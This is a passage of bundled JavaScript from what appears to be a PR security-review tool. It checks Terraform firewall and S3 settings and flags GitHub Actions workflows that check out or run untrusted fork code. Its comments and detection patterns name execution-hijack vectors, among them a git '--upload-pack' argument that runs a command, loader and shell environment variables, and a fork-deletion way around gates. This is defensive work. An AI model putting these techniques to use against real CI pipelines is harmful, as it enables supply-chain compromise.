            if (block.type !== 'resource')
                continue;
            const kind = block.labels[0] ?? '';
            if (kind === 'aws_security_group')
                for (const ingress of block.blocks.filter((b) => b.type === 'ingress'))
                    hits.push(...openIngress(ingress));
            if (kind === 'aws_security_group_rule' && literal(block.attributes.get('type')) === 'ingress')
                hits.push(...openIngress(block));
            if (kind === 'aws_vpc_security_group_ingress_rule')
                hits.push(...openIngress(block));
            if (kind === 'google_compute_firewall')
                hits.push(...openFirewall(block));
            if (kind === 'aws_s3_bucket' || kind === 'aws_s3_bucket_acl' || kind === 'aws_s3_object')
                hits.push(...publicAcl(block));
            if (kind === 'aws_s3_bucket_public_access_block' || kind === 'aws_s3_account_public_access_block')
                hits.push(...accessBlockOff(block));
        }
        return hits;
    },
};
/** The lines of the attributes that hold a world-open CIDR. */
function worldLines(block, names) {
    return names.flatMap((n) => block.attributes
        .get(n)
        ?.lines.filter((l) => WORLD.test(l.text))
        .map((l) => l.line) ?? []);
}
function port(attribute) {
    const value = literal(attribute);
    return value !== undefined && /^-?\d+$/.test(value) ? Number(value) : undefined;
}
// AWS: all traffic when the protocol is -1/all, else the from..to range; unknown (a variable) is not flagged.
function openIngress(block) {
    const lines = worldLines(block, ['cidr_blocks', 'ipv6_cidr_blocks', 'cidr_ipv4', 'cidr_ipv6']);
    if (lines.length === 0)
        return [];
    const protocol = literal(block.attributes.get('protocol') ?? block.attributes.get('ip_protocol'));
    const [from, to] = [port(block.attributes.get('from_port')), port(block.attributes.get('to_port'))];
    const all = protocol === '-1' || protocol === 'all';
    if (!all && (from === undefined || to === undefined))
        return [];
    if (!all && from === to && WEB_PORTS.has(from))
        return [];
    const ports = all ? 'every port' : from === to ? `port ${from}` : `ports ${from}-${to}`;
    return [{ rule: OPEN_INGRESS, lines, detail: `This rule opens ${ports} to the internet.` }];
}
// GCP: source_ranges with the world and an `allow` block on ports other than 80/443 (none = all).
function openFirewall(block) {
    const lines = worldLines(block, ['source_ranges']);
    if (lines.length === 0 || literal(block.attributes.get('direction')) === 'EGRESS')
        return [];
    const open = block.blocks
        .filter((b) => b.type === 'allow')
        .flatMap((allow) => {
        const ports = allow.attributes.get('ports');
        if (!ports)
            return ['every port'];
        const listed = [...ports.value.matchAll(/"([^"]+)"/g)].map((m) => m[1]);
        return listed.filter((p) => !WEB_PORTS.has(Number(p)));
    });
    return open.length === 0
        ? []
        : [{ rule: OPEN_INGRESS, lines, detail: `This firewall opens ${open.join(', ')} to the internet.` }];
}
function publicAcl(block) {
    const acl = block.attributes.get('acl');
    const value = literal(acl);
    if (!acl || !value || !PUBLIC_ACLS.has(value))
        return [];
    return [
        {
            rule: PUBLIC_ACL,
            lines: [acl.line],
            severity: value === 'public-read-write' ? 'critical' : undefined,
            detail: `\`${value}\` applies to every object in the bucket.`,
        },
    ];
}
function accessBlockOff(block) {
    const off = BLOCK_SETTINGS.flatMap((name) => {
        const attribute = block.attributes.get(name);
        return attribute && literal(attribute) === 'false' ? [attribute] : [];
    });
    if (off.length === 0)
        return [];
    return [
        {
            rule: ACCESS_BLOCK_OFF,
            lines: off.map((a) => a.line),
            detail: `Off here: ${off.map((a) => `\`${a.name}\``).join(', ')}.`,
        },
    ];
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/checks/workflow/parse-workflow.js
let yaml;
/**
 * Imports the YAML parser, once: the runner awaits it before the first workflow it checks, so a
 * review that changes no workflow never loads the parser's ~600 kB chunk (issue 48).
 */
async function loadWorkflowParser() {
    yaml ??= await __webpack_require__.e(/* import() */ 8815).then(__webpack_require__.t.bind(__webpack_require__, 38815, 19));
}
function parser() {
    if (!yaml)
        throw new Error('prlens bug: parseWorkflow ran before loadWorkflowParser() finished');
    return yaml;
}
const isMap = (node) => parser().isMap(node);
const isScalar = (node) => parser().isScalar(node);
const isSeq = (node) => parser().isSeq(node);
const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;
/** The workflow in `text`, or undefined when it is not a YAML mapping (a check never throws on input). */
function parseWorkflow(text) {
    const { LineCounter, parseDocument } = parser();
    const lines = new LineCounter();
    const doc = parseDocument(text, { lineCounter: lines, uniqueKeys: false });
    if (doc.errors.length > 0 || !isMap(doc.contents))
        return undefined;
    const root = doc.contents;
    const lineOf = (node) => lines.linePos(node?.range?.[0] ?? 0).line;
    const located = (node) => {
        if (!node)
            return undefined;
        return { value: isScalar(node) ? String(node.value) : mapText(node, text), line: lineOf(node) };
    };
    const triggers = [];
    const on = get(root, 'on') ?? get(root, true);
    const names = isScalar(on) ? [on] : isSeq(on) ? on.items : isMap(on) ? on.items.map((p) => p.key) : [];
    for (const name of names)
        if (isScalar(name))
            triggers.push({ value: String(name.value), line: lineOf(name) });
    const workflowEnv = secretNames(get(root, 'env'));
    const workflowNames = keys(get(root, 'env'));
    const workflowValues = values(get(root, 'env'));
    const workflowDefaults = get(root, 'defaults') !== undefined;
    const jobs = [];
    const jobsNode = get(root, 'jobs');
    for (const pair of isMap(jobsNode) ? jobsNode.items : []) {
        const job = pair.value;
        if (!isMap(job) || !isScalar(pair.key))
            continue;
        const jobEnv = new Set([...workflowEnv, ...secretNames(get(job, 'env'))]);
        const jobNames = [...workflowNames, ...keys(get(job, 'env'))];
        const jobValues = [...workflowValues, ...values(get(job, 'env'))];
        const defaults = workflowDefaults || get(job, 'defaults') !== undefined;
        const steps = [];
        const stepsNode = get(job, 'steps');
        for (const step of isSeq(stepsNode) ? stepsNode.items : []) {
            if (!isMap(step))
                continue;
            const run = get(step, 'run');
            steps.push({
                line: lineOf(step),
                condition: located(get(step, 'if')),
                uses: located(get(step, 'uses')),
                inputs: withInputs(get(step, 'with'), located),
                run: isScalar(run) ? scriptLines(run, text, lines) : undefined,
                secretEnv: new Set([...jobEnv, ...secretNames(get(step, 'env'))]),
                secretInputs: secretNames(get(step, 'with')),
                envNames: new Set([...jobNames, ...keys(get(step, 'env'))]),
                envValues: new Map([...jobValues, ...values(get(step, 'env'))]),
                customShell: defaults || get(step, 'shell') !== undefined || get(step, 'working-directory') !== undefined,
            });
        }
        jobs.push({
            id: String(pair.key.value),
            condition: located(get(job, 'if')),
            permissions: located(get(job, 'permissions')),
            steps,
        });
    }
    return { triggers, permissions: located(get(root, 'permissions')), jobs };
}
function get(map, key) {
    for (const pair of map.items)
        if (isScalar(pair.key) && pair.key.value === key)
            return pair.value;
    return undefined;
}
// A mapping or sequence value (e.g. `permissions: { contents: write }`) as its source text.
function mapText(node, text) {
    const [start, end] = node.range ?? [0, 0];
    return text.slice(start, end);
}
/** The keys of a mapping (`env:`), or none when it is not one (an expression such as `${{ fromJSON(\u2026) }}`). */
function keys(node) {
    return isMap(node) ? node.items.flatMap((p) => (isScalar(p.key) ? [String(p.key.value)] : [])) : [];
}
/**
 * The `key: value` pairs of a `with:` mapping (a non-scalar value as its source text), none when it
 * is not one.
 */
function withInputs(node, located) {
    if (!isMap(node))
        return [];
    return node.items.flatMap((p) => {
        const value = located(p.value);
        return isScalar(p.key) && value ? [{ key: String(p.key.value), ...value }] : [];
    });
}
/**
 * The scalar `name: value` pairs of an `env:` mapping, keyed by the lower-cased name (GitHub reads
 * `env.X` in any case), each with its name as written.
 */
function values(node) {
    if (!isMap(node))
        return [];
    return node.items.flatMap((p) => {
        if (!isScalar(p.key) || !isScalar(p.value))
            return [];
        const name = String(p.key.value);
        return [[name.toLowerCase(), { name, value: String(p.value.value) }]];
    });
}
/** Keys of `env:` or `with:` whose value reads a secret: `TOKEN: ${{ secrets.NPM_TOKEN }}`. */
function secretNames(env) {
    const names = new Set();
    if (!isMap(env))
        return names;
    for (const pair of env.items)
        if (isScalar(pair.key) &&
            isScalar(pair.value) &&
            /\$\{\{[^}]*\bsecrets\./i.test(String(pair.value.value)))
            names.add(String(pair.key.value));
    return names;
}
/**
 * The source lines of a `run:` value with their file line numbers. The raw source is read (not the
 * parsed string) so that every expression keeps the line it is written on, block scalar or not.
 */
function scriptLines(node, text, counter) {
    const [start, end] = node.range ?? [0, 0];
    const raw = text.slice(start, end);
    const out = [];
    let offset = start;
    for (const line of raw.split('\n')) {
        const expressions = [...line.matchAll(EXPRESSION)].map((m) => m[1].trim());
        const value = line.trim();
        if (value && !/^[|>][-+0-9]*$/.test(value))
            out.push({ value, line: counter.linePos(offset).line, expressions });
        offset += line.length + 1;
    }
    return out;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/checks/workflow/fork-checkout-guard.js
// The first guarded release of each major line; a moving major tag (`v4`) points past it.
const FIRST_GUARDED = {
    '2': [8, 0],
    '3': [7, 0],
    '4': [4, 0],
    '5': [1, 0],
    '6': [1, 0],
    '7': [0, 0],
};
// Owner and repository names resolve case-insensitively on GitHub; the tag does not (git refs are
// case-sensitive), and a `uses:` with spaces, a sub-path or another owner is another action or none.
const CHECKOUT = /^actions\/checkout@(.*)$/i;
const VERSION = /^v(\d)(?:\.(\d+)\.(\d+))?$/;
/** The guarded major tag or release that `uses` names (`v4`, `v4.4.0`), or undefined. */
function guardedCheckout(uses) {
    const tag = CHECKOUT.exec(uses)?.[1] ?? '';
    const match = VERSION.exec(tag);
    const first = match && FIRST_GUARDED[match[1]];
    if (!match || !first)
        return undefined;
    if (match[2] === undefined)
        return tag;
    const [minor, patch] = [Number(match[2]), Number(match[3])];
    return minor > first[0] || (minor === first[0] && patch >= first[1]) ? tag : undefined;
}
const SHA_FIELDS = {
    pull_request_target: /^github\.event\.pull_request\.(head\.sha|merge_commit_sha)$/,
    workflow_run: /^github\.event\.workflow_run\.(head_sha|head_commit\.id)$/,
};
const FORK_NAME = {
    pull_request_target: 'github.event.pull_request.head.repo.full_name',
    workflow_run: 'github.event.workflow_run.head_repository.full_name',
};
/** The one expression `value` is made of (`${{ x }}`), or undefined. */
function soleExpression(value) {
    return /^\s*\$\{\{\s*([\w.]+)\s*\}\}\s*$/.exec(value)?.[1];
}
/** Whether the guard refuses this `ref`/`repository` pair when a fork's PR triggers `trigger`. */
function refused(trigger, ref, repository) {
    if (repository !== undefined && soleExpression(repository) === FORK_NAME[trigger])
        return true;
    if (ref === undefined)
        return false;
    // Under `workflow_run` a `pull_request_target` run's head repository is the base, so the guard lets
    // `refs/pull/N/head` through there, and N may come from that run (an artifact): only the SHAs count.
    const pullRef = /^refs\/pull\/(\d+|\$\{\{\s*[\w.[\]]+\.number\s*\}\})\/(head|merge)$/;
    if (trigger === 'pull_request_target' && pullRef.test(ref.trim()))
        return true;
    const field = soleExpression(ref);
    return field !== undefined && SHA_FIELDS[trigger].test(field);
}
// The opt-in is `(getInput('allow-unsafe-pr-checkout') || 'false').toUpperCase() === 'TRUE'`;
// anything but an unset or plainly false value is read as an opt-in, an expression included.
const NOT_OPTED_IN = /^\s*(false|no|off|0)?\s*$/i;
/**
 * What actions/checkout's fork guard does to `step` in a workflow whose privileged trigger is
 * `trigger` and whose triggers are `triggers`. A workflow that another event can also run with
 * secrets (`issue_comment`, a reusable workflow's caller) is not guarded there: `none`.
 */
function forkGuard(step, trigger, triggers) {
    const version = guardedCheckout(step.uses?.value ?? '');
    if (!version || ![...triggers].every((t) => GUARDED_OR_UNPRIVILEGED.has(t)))
        return { kind: 'none' };
    if (triggers.has('pull_request_target') && triggers.has('workflow_run'))
        return { kind: 'none' };
    // Input names are case-insensitive to the runner; a name given twice is not read at all.
    const input = (name) => step.inputs.filter((i) => i.key.toLowerCase() === name);
    const [ref, repository] = [input('ref'), input('repository')];
    if (ref.length > 1 || repository.length > 1)
        return { kind: 'none' };
    if (!refused(trigger, ref[0]?.value, repository[0]?.value))
        return { kind: 'none' };
    const optIn = input('allow-unsafe-pr-checkout').find((i) => !NOT_OPTED_IN.test(i.value));
    return optIn ? { kind: 'opted-in', version, line: optIn.line } : { kind: 'refuses', version };
}
// Triggers under which either the guard runs or no outsider's event brings secrets; any other
// (`issue_comment` with `refs/pull/${{ github.event.issue.number }}/head`, `workflow_call`) is not
// checked by the guard and may check out a fork's head with secrets.
const GUARDED_OR_UNPRIVILEGED = new Set([
    'pull_request_target',
    'workflow_run',
    'pull_request',
    'push',
    'schedule',
    'workflow_dispatch',
    'merge_group',
    'release',
]);
/** The sentence a finding's body gets for `guard`, or none. */
function forkGuardNote(guard, trigger) {
    if (guard.kind === 'refuses')
        return [
            `Medium, not higher: actions/checkout ${guard.version} refuses to check out a fork's head under \`pull_request_target\`/\`workflow_run\` unless \`allow-unsafe-pr-checkout: true\` (actions/checkout#2454): the job fails instead of running the fork's code. The workflow is still wrong for the repository's own branches, and on GitHub Enterprise Server the bundled checkout may predate this guard (June 2026).`,
        ];
    if (guard.kind === 'opted-in')
        return [
            `\`allow-unsafe-pr-checkout\` (line ${guard.line}) is the explicit opt-in that turns off actions/checkout ${guard.version}'s refusal to check out a fork's head under \`${trigger}\` (actions/checkout#2454).`,
        ];
    return [];
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/checks/workflow/poisonable-step.js
/**
 * Whether a workflow step can execute code from the checked-out tree (a "poisonable" step, in CodeQL's
 * words). CodeQL splits the untrusted-checkout query by it: `actions/untrusted-checkout/critical` when
 * a later step may run the PR's code, `actions/untrusted-checkout/high` when the checkout is only read.
 * https://codeql.github.com/codeql-query-help/actions/actions-untrusted-checkout-critical/
 *
 * Everything here is decided by an allow-list of commands that read files and cannot be redefined by
 * the tree (`git diff`, `cat`, `echo`, a PR comment action). Anything else, a command this file does
 * not know included, counts as running the tree: a build tool, a package manager (lifecycle hooks), a
 * script, `make`, an interpreter, a local action (`uses: ./\u2026`), a Docker build, a third-party action.
 * The workflow is the PR's own text, so a wrong guess here must err towards "runs the tree".
 */
// Commands that only read files or print, and that the checked-out tree cannot redefine: shell
// builtins and system tools resolved from the runner's PATH (the workspace is not on it). Tools that
// can run a script file (`sed -f` with its `e` command, `awk -f` with `system()`, `find -exec`,
// `xargs`, `env`, `source`, `eval`) are left out, and so are tools that write files (`cp`, `mv`,
// `tee`): one can drop a tree file where a later command is looked up. `cd` is left out because
// `git` run inside a tree folder laid out as a bare repository reads that folder's `config`
// (`core.fsmonitor` runs a command), https://github.com/git/git/security/advisories/GHSA-8prw-h3cq-mghm.
const READ_ONLY = new Set([
    'echo',
    'printf',
    'cat',
    'head',
    'tail',
    'wc',
    'grep',
    'egrep',
    'fgrep',
    'diff',
    'cmp',
    'ls',
    'test',
    '[',
    '[[',
    ']]',
    'true',
    'false',
    'exit',
    'set',
    'sort',
    'uniq',
    'cut',
    'tr',
    'jq',
    'basename',
    'dirname',
    'date',
    'sleep',
    'local',
    'export',
    'readonly',
    'shift',
    'read',
    'return',
    'break',
    'continue',
    ':',
]);
// `git` subcommands that read the repository; hooks live in `.git/hooks` and drivers in `.git/config`,
// neither of which the checkout takes from the tree. `-C <dir>` and `-c key=value` are refused.
const GIT_READ = /^git\s+(fetch|diff|log|show|status|rev-parse|rev-list|ls-files|ls-tree|merge-base|describe|cat-file|name-rev|shortlog|branch|checkout|switch|remote|for-each-ref|tag\s+(-l|--list|--contains|--points-at)\b)\b/;
// `gh` subcommands that talk to the API about the PR (`gh pr checkout` is the checkout itself).
const GH_READ = /^gh\s+(pr\s+(checkout|comment|view|diff|edit|review|list)|issue\s+(comment|view|edit)|api|label)\b/;
// Shell grammar words that open or close a compound command.
const SHELL_WORD = /^(?:if|then|else|elif|fi|do|done|while|until|esac|!|time|\{|\}|;;)$/;
// Words that open a word list, not a command (`for f in $(git diff --name-only)`: the substitution
// is split off and read on its own).
const WORD_LIST = /^(?:for|select|case)$/;
// A `case` arm's pattern at the start of a line (`0)`, `*)`, `a|b)`): outside a `case` it is a
// syntax error, so taking it for a pattern never hides a command the shell would run.
const CASE_ARM = /^\s*[^\s()$`;&]*\)/;
// Variables that make a later step, the shell or a read-only tool run something else: the runner's
// env and PATH files (`cat version >> "$GITHUB_ENV"` sets `BASH_ENV` for every later step,
// https://docs.github.com/actions/reference/workflows-and-actions/workflow-commands#environment-files),
// bash's startup and trace hooks, the loader's preloads, `PATH`, and where git and gh read their
// configuration and pager (`HOME=. git log` reads a tree `.gitconfig` whose `core.pager` is a command).
const EXEC_VARIABLES = String.raw `GITHUB_ENV|GITHUB_PATH|BASH_ENV|ENV|SHELLOPTS|BASHOPTS|PS4|PROMPT_COMMAND|IFS|LD_\w+|NODE_OPTIONS|PATH|HOME|XDG_\w+|GIT_\w+|GH_(?:PAGER|BROWSER|EDITOR|CONFIG_DIR)|PAGER|EDITOR|VISUAL|BROWSER`;
/** An `env:` name that is one of them. */
const EXEC_VARIABLE = new RegExp(`^(?:${EXEC_VARIABLES})$`);
/** A script line that names one of them anywhere (an assignment, an `export`, a redirect into `$GITHUB_ENV`). */
const ENVIRONMENT = new RegExp(String.raw `\b(?:${EXEC_VARIABLES})\b`);
// git options that run a program or write a file: `git fetch --upload-pack='sh x' .` runs it.
const GIT_EXEC_OPTION = /\s--(upload-pack|receive-pack|exec|ext-diff|output|open-files-in-pager)\b|\s-O/;
// Expressions that paste a value another step or job produced, possibly read from the tree, into
// the script (a tree file's text pasted into shell is code).
const PASTED_OUTPUT = /^(steps|needs|env|jobs)\./i;
// Actions that only read the workspace or talk to the API. Any other action may run the tree: a
// Docker build, `pre-commit`, `github-script` requiring a tree file, an action this list does not know.
// The `setup-*` actions are not on it: with `cache: yarn` setup-node runs `yarn` in the workspace,
// and Yarn runs the `yarnPath` release that the tree's `.yarnrc.yml` names.
const READ_ONLY_ACTION = /^(actions\/(checkout|upload-artifact)|peter-evans\/(create-or-update-comment|find-comment)|marocchino\/sticky-pull-request-comment|thollander\/actions-comment-pull-request)@/;
/** Whether one shell command (one stage of a pipeline) only reads or prints. */
function readOnlyCommand(command) {
    let words = command.trim().split(/\s+/).filter(Boolean);
    // Leading assignments (`status=$?`) and shell grammar words.
    while (words.length > 0 && (SHELL_WORD.test(words[0]) || /^[A-Za-z_]\w*=/.test(words[0])))
        words = words.slice(1);
    if (words.length === 0 || WORD_LIST.test(words[0]))
        return true;
    // `(make)` is a subshell, `make)` the end of `$(make)`, `"make"` quoted: all run `make`.
    const name = words[0].replace(/^[("']+|[)"']+$/g, '');
    if (name === '')
        return true;
    const text = [name, ...words.slice(1)].join(' ');
    if (name === 'git')
        return GIT_READ.test(text) && !GIT_EXEC_OPTION.test(text);
    if (name === 'gh')
        return GH_READ.test(text);
    return READ_ONLY.has(name);
}
/**
 * Whether a line of shell only reads files or prints: every command on it (split at `;`, `&&`, `||`,
 * `|`, `&`, and at `$(` and backquotes) is on the allow-list, it names no variable that redirects
 * later commands, and it pastes no other step's output. A quote that hides a separator splits the
 * line where the shell would not, which can only add unknown commands (towards "runs"); a trailing
 * comment is read as code for the same reason.
 */
function readOnlyLine(line) {
    if (/^\s*#/.test(line.value))
        return true;
    if (ENVIRONMENT.test(line.value))
        return false;
    if (line.expressions.some((e) => PASTED_OUTPUT.test(e)))
        return false;
    const text = line.value
        .replace(/\$\{\{[\s\S]*?\}\}/g, 'EXPR')
        .replace(CASE_ARM, '')
        // Redirections: `2>&1`, `&> log`, `>> "$GITHUB_OUTPUT"`, `< file`.
        .replace(/\d*>&\d*-?|&>>?\s*\S+|\d*>>?\s*\S+|<\s*\S+/g, ' ');
    return text.split(/\$\(|`|\|\||&&|;;|[;|&]/).every(readOnlyCommand);
}
/** Whether `step` may execute code of the checked-out tree: anything but a read-only script or action. */
function poisonable(step) {
    // An env name that redirects what the step runs, or a shell the PR chooses (`shell: ./x {0}`), or a
    // working directory inside the tree (git there reads a tree folder laid out as a repository).
    if ([...step.envNames].some((n) => EXEC_VARIABLE.test(n)))
        return true;
    if (step.run)
        return step.customShell || !step.run.every(readOnlyLine);
    if (step.uses)
        return !READ_ONLY_ACTION.test(step.uses.value.trim());
    return false;
}
/** Whether `step` downloads a workflow artifact (which may hold the tree another job checked out). */
function downloadsArtifact(step) {
    return /^actions\/download-artifact@|^dawidd6\/action-download-artifact@/.test(step.uses?.value.trim() ?? '');
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/checks/workflow/expression.js
/**
 * Reads a workflow `if:` the way GitHub does, into a small expression tree the workflow rules reason
 * over. GitHub evaluates an `if:` without `${{ }}` as one expression; a value that is exactly one
 * `${{ \u2026 }}` as the expression inside; any other value holding `${{` (text, a space or a trailing
 * newline around the braces, as a `>` folded scalar keeps) as a string template whose result is a
 * non-empty string: always true (actions/runner#1173, rhysd/actionlint#272).
 * https://docs.github.com/actions/reference/workflows-and-actions/expressions
 * https://docs.github.com/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idif
 */
const TOKEN = /\s*(?:('(?:[^']|'')*')|(-?(?:0x[0-9a-f]+|\d+(?:\.\d+)?(?:e[+-]?\d+)?))|([A-Za-z_][\w-]*)|(==|!=|<=|>=|&&|\|\||[()[\].!<>,*]))/iy;
/** The condition an `if:` value holds, after GitHub's rules for `${{ }}` in an `if:`. */
function readCondition(value) {
    const open = value.indexOf('${{');
    if (open < 0)
        return parsed(value);
    if (open > 0)
        return { alwaysTrue: 'text before `${{`' };
    const close = closingBraces(value, 3);
    if (close < 0)
        return { unreadable: true };
    const rest = value.slice(close + 2);
    if (rest.length > 0)
        return { alwaysTrue: /^\s+$/.test(rest) ? 'a space or line break after `}}`' : 'text after `}}`' };
    return parsed(value.slice(3, close));
}
// Functions whose result is a boolean or a hash: none of their arguments reaches the text they give.
// https://docs.github.com/actions/reference/workflows-and-actions/expressions#functions
const OPAQUE_CALLS = new Set([
    'contains',
    'startswith',
    'endswith',
    'hashfiles',
    'success',
    'always',
    'cancelled',
    'failure',
]);
/**
 * The context paths whose value the expression `written` (the inside of a `${{ }}`) can paste as text: a
 * path itself, both operands of `||`, the right one of `&&` (the left is given only when falsy), the arguments of
 * `format`, `join`, `toJSON`, `fromJSON` or any function not known to return a boolean or a hash.
 * A comparison or a `!` pastes `true` or `false`. Paths are lower-cased and index syntax is read as a
 * member (`github.event['issue'].TITLE` is `github.event.issue.title`): GitHub ignores case. When the
 * text is no expression this reader follows, or part of it is a computed index or a member of a
 * call's result, every name-like run of the text is returned instead, so that an unusual spelling
 * errs toward being read as input rather than being passed over.
 */
function carriedPaths(written) {
    // An element index names some element: `commits[0].message` is read as `commits.*.message`.
    const text = written.replace(/\[\s*\d+\s*\]/g, '.*');
    const tree = parseExpression(text);
    const paths = [];
    const walk = (e) => {
        if (e.kind === 'path')
            paths.push(e.path);
        else if (e.kind === 'other')
            return false;
        else if (e.kind === 'binary' && e.op === '||')
            return walk(e.left) && walk(e.right);
        // `a && b` gives `a` only when it is falsy (empty, null, 0, false): only `b` can paste text.
        else if (e.kind === 'binary' && e.op === '&&')
            return walk(e.right);
        else if (e.kind === 'call' && !OPAQUE_CALLS.has(e.name))
            return e.args.every(walk);
        return true;
    };
    if (tree && walk(tree))
        return paths;
    const flat = text
        .toLowerCase()
        .replace(/\[\s*'([^']*)'\s*\]/g, '.$1')
        .replace(/\s*\.\s*/g, '.')
        // A computed index may name any member: `github.event.issue[x]` is read as `github.event.issue.*`.
        .replace(/\s*\[/g, '.*[');
    return flat.match(/[a-z_][\w-]*(?:\.(?:[\w-]+|\*))*/g) ?? [];
}
function parsed(text) {
    const expression = parseExpression(text);
    return expression ? { expression } : { unreadable: true };
}
/** The index of the `}}` that closes the `${{` before `from`, skipping string literals; -1 when none. */
function closingBraces(value, from) {
    for (let i = from; i < value.length; i++) {
        if (value[i] === "'") {
            const end = /'(?:[^']|'')*'/y;
            end.lastIndex = i;
            if (!end.exec(value))
                return -1;
            i = end.lastIndex - 1;
        }
        else if (value.startsWith('}}', i))
            return i;
    }
    return -1;
}
const MAX_TOKENS = 1000;
/**
 * The tokens of `text`, or undefined when it has one that is not GitHub's or more than `MAX_TOKENS`:
 * the PR writes the workflow, and the rules walk the tree recursively (a chain of 50,000 `&&` would
 * overflow the stack). Real `if:`s have a few dozen.
 */
function tokens(text) {
    const out = [];
    const end = text.trimEnd().length;
    TOKEN.lastIndex = 0;
    while (TOKEN.lastIndex < end) {
        if (out.length >= MAX_TOKENS)
            return undefined;
        const m = TOKEN.exec(text);
        if (!m)
            return undefined;
        const [, str, num, name, op] = m;
        if (str !== undefined)
            out.push({ text: str.slice(1, -1).replace(/''/g, "'"), type: 'string' });
        else if (num !== undefined)
            out.push({ text: num, type: 'number' });
        else if (name !== undefined)
            out.push({ text: name, type: 'name' });
        else
            out.push({ text: op, type: 'op' });
    }
    return out;
}
/** The expression tree of `text`, or undefined when it is not a well-formed expression. */
function parseExpression(text) {
    const list = tokens(text);
    if (!list || list.length === 0)
        return undefined;
    const parser = new Parser(list);
    try {
        const tree = parser.or();
        return parser.done() ? tree : undefined;
    }
    catch (error) {
        if (error instanceof SyntaxError)
            return undefined;
        throw error;
    }
}
// The PR writes the workflow: nesting deeper than any real `if:` is refused, not recursed into.
const MAX_DEPTH = 64;
/** Recursive descent after GitHub's precedence: `!`, comparisons, `==`/`!=`, `&&`, `||`. */
class Parser {
    list;
    at = 0;
    depth = 0;
    constructor(list) {
        this.list = list;
    }
    done() {
        return this.at === this.list.length;
    }
    or() {
        if (++this.depth > MAX_DEPTH)
            throw new SyntaxError('too deep');
        const tree = this.binary(['||'], () => this.binary(['&&'], () => this.equality()));
        this.depth--;
        return tree;
    }
    equality() {
        return this.binary(['==', '!='], () => this.binary(['<', '<=', '>', '>='], () => this.unary()));
    }
    binary(ops, next) {
        let left = next();
        while (ops.some((op) => this.peek(op))) {
            const op = this.list[this.at++].text;
            left = { kind: 'binary', op, left, right: next() };
        }
        return left;
    }
    unary() {
        if (!this.peek('!'))
            return this.postfix(this.primary());
        this.at++;
        if (++this.depth > MAX_DEPTH)
            throw new SyntaxError('too deep');
        const operand = this.unary();
        this.depth--;
        return { kind: 'not', operand };
    }
    postfix(base) {
        let node = base;
        for (;;) {
            let part;
            if (this.peek('.')) {
                this.at++;
                const name = this.list[this.at++];
                part = name?.type === 'name' ? name.text : name?.text === '*' ? '*' : undefined;
                if (part === undefined)
                    throw new SyntaxError('.');
            }
            else if (this.peek('[')) {
                this.at++;
                const index = this.or();
                this.take(']');
                part = index.kind === 'literal' && typeof index.value === 'string' ? index.value : undefined;
            }
            else
                return node;
            node =
                node.kind === 'path' && part !== undefined
                    ? { kind: 'path', path: `${node.path}.${part.toLowerCase()}` }
                    : { kind: 'other' };
        }
    }
    primary() {
        const token = this.list[this.at++];
        if (!token)
            throw new SyntaxError('end');
        if (token.type === 'string')
            return { kind: 'literal', value: token.text };
        if (token.type === 'number')
            return { kind: 'literal', value: Number(token.text) };
        if (token.type === 'op') {
            if (token.text !== '(')
                throw new SyntaxError(token.text);
            const inner = this.or();
            this.take(')');
            return inner;
        }
        if (token.text === 'true' || token.text === 'false')
            return { kind: 'literal', value: token.text === 'true' };
        if (token.text === 'null')
            return { kind: 'literal', value: null };
        if (!this.peek('('))
            return { kind: 'path', path: token.text.toLowerCase() };
        this.at++;
        const args = [];
        while (!this.peek(')')) {
            args.push(this.or());
            if (!this.peek(')'))
                this.take(',');
        }
        this.at++;
        return { kind: 'call', name: token.text.toLowerCase(), args };
    }
    peek(text) {
        const token = this.list[this.at];
        return token?.type === 'op' && token.text === text;
    }
    take(text) {
        if (!this.peek(text))
            throw new SyntaxError(text);
        this.at++;
    }
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/checks/workflow/same-repo-gate.js
/**
 * Whether a job's or step's `if:` lets it run only for pull requests whose head is the base
 * repository itself (a same-repository gate), so a `pull_request_target` or `workflow_run` job that
 * checks out the head never checks out a fork's code. CodeQL's actions/untrusted-checkout queries take
 * any `if:` that names `head.repo.full_name` or `workflow_run.head_repository` as such a check
 * (`PullRequestTargetRepositoryIfCheck`, `WorkflowRunRepositoryIfCheck` in ControlChecks.qll); the
 * workflow is the PR's own text here, so the `if:` must hold the gate on every path:
 * - one expression (see expression.ts: text around `${{ }}` is a string, always true);
 * - under `&&`, one operand that is a gate is enough; under `||`, every operand must be one;
 * - a gate compares the head repository of the triggering event with the base repository (name, id
 *   or owner: nobody outside the owner can create a repository under it), or a constant that the
 *   same `&&` also requires of the base repository (`github.repository == 'acme/app'`: a constant
 *   alone may be the attacker's fork);
 * - `head.repo.fork == false` and `!head.repo.fork` are not gates: the payload's head repository is
 *   null once the fork is deleted (`repo: Repository | null` in @octokit/webhooks-types), and
 *   `null == false` and `!null` are true, so the author deletes the fork and closes or edits the PR;
 *   a name, id or owner compared with the base's is never equal to null;
 * - under `workflow_run`, requiring the triggering run's event to be one no fork can cause in this
 *   repository (`github.event.workflow_run.event == 'push'`) is a gate too; `!= 'pull_request'` is
 *   not: a fork's PR runs its own workflow files on `pull_request_review` and
 *   `pull_request_review_comment` as well, and `workflow_run` matches the triggering workflow by name,
 *   so the PR adds one with that name (zizmor's author on uutils/coreutils#6974);
 * - the other event's fields do not count: under `workflow_run`, `github.event.pull_request` is null
 *   and `null == null`, `null == false` and `!null` are all true (GitHub compares loosely, as numbers).
 * Labels and `github.actor` are not gates: a label is a maintainer's approval of one commit, and
 * the commits pushed after it keep the label; the actor is whoever caused the event, not the author
 * of the code. They do not change the finding.
 * https://docs.github.com/actions/reference/workflows-and-actions/expressions#operators
 */

const RUN_EVENT = 'github.event.workflow_run.event';
// Events whose runs in this repository use this repository's workflow files and code: a fork's PR
// causes none of them (its own workflows run here only on the `pull_request*` events).
// https://docs.github.com/actions/reference/workflows-and-actions/events-that-trigger-workflows
const BASE_ONLY_EVENTS = ['push', 'schedule', 'workflow_dispatch', 'release'];
const ALWAYS = {
    'base-name': ['github.repository', 'github.event.repository.full_name'],
    'base-id': ['github.repository_id', 'github.event.repository.id'],
    'base-owner': ['github.repository_owner', 'github.event.repository.owner.login'],
};
// Each event's own head and base: https://docs.github.com/webhooks/webhook-events-and-payloads
const FIELDS = {
